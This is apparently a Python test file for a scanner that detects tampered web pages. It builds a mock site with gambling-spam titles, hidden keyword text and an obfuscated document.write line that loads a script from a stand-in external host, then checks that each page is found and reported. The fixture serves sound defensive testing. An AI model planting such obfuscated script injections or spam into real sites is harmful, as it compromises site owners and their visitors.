"""Pages of the site that somebody else has changed, as whole scans and as a reader sees them."""

import asyncio

from aiohttp import web

from tests.support.dim_sites import FILLER, TARGET, DimSite, article, dim_site, page
from tests.support.tampered import scan_tampered

BASE = f"http://{TARGET}"
TITLE = "澳门新葡京官网-真人百家乐"
HIDDEN = "澳门葡京 百家乐投注 真人荷官 在线投注平台"
SCRIPT = "document.write(unescape('%3Cscript src=%22http://%74ongji-js.example/t.js%22%3E%3C/script%3E'))"
PAGES = 12
TAMPERED = {"/p/3": "own.title", "/p/5": "own.hidden_text", "/p/7": "own.script_writes"}


def titled(title: str) -> web.Response:
    text = f"<!doctype html><html><head><title>{title}</title></head><body>{FILLER * 3}第三号</body></html>"
    return web.Response(text=text, content_type="text/html")


async def answer(site: DimSite, request: web.Request) -> web.StreamResponse:
    match request.path:
        case "/":
            return page(FILLER + "".join(f'<a href="/p/{number}">{number}</a>' for number in range(PAGES)))
        case "/p/3":
            return titled(TITLE)
        case "/p/5":
            return page(f"{FILLER}第五号<div style='display:none'>{HIDDEN}</div>")
        case "/p/7":
            return page(f"{FILLER}第七号<script>{SCRIPT}</script>")
        case _:
            return article(int(request.path.rpartition("/")[2]))


async def test_every_page_is_found_quoted_and_told_what_to_do_about(tmp_path):
    async with dim_site(DimSite(answer)) as site:
        summary, detail, _, violations = await asyncio.to_thread(scan_tampered, site.settings, tmp_path / "data")
    assert summary["finding_id"] == f"tampered.{TARGET}"
    assert summary["risk"]["level"] in ("high", "critical")
    assert [one["violation_key"] for one in violations] == ["tampered"]
    assert violations[0]["risk_level"] in ("high", "critical")
    told = {(one["page_url"].removeprefix(BASE), one["kind"]) for one in detail["references"]}
    assert {(path, rule.replace(".", ":")) for path, rule in TAMPERED.items()} <= told
    assert {path for path, _ in told} == set(TAMPERED)
    places = {one["kind"]: one for one in detail["references"]}
    assert places["own:title"]["dom_path"] == "html > head > title"
    assert places["own:hidden_text"]["hidden_by"] == "display_none"
    assert places["own:hidden_text"]["source"]["excerpt"].count("澳门葡京") == 1
    assert places["own:title"]["source"]["excerpt"].count(TITLE) == 1
    assert [step["code"] for step in detail["advice"]][-2:] == ["clean_hacked_page", "scan_again"]
    assert "tampered" in summary["summary"]
